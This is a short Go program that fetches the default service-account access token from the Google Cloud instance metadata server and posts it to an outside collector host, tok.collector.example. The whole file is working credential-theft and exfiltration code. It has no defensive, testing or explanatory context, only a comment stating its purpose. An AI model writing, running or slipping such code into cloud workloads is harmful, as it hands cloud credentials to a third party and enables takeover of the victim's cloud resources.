// reads the cloud token and forwards it
package main

import (
	"io"
	"net/http"
	"strings"
)

const md = "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"

func main() {
	req, _ := http.NewRequest("GET", md, nil)
	req.Header.Set("Metadata-Flavor", "Google")
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		return
	}
	defer res.Body.Close()
	tok, _ := io.ReadAll(res.Body)
	http.Post("https://tok.collector.example/", "application/json", strings.NewReader(string(tok)))
}
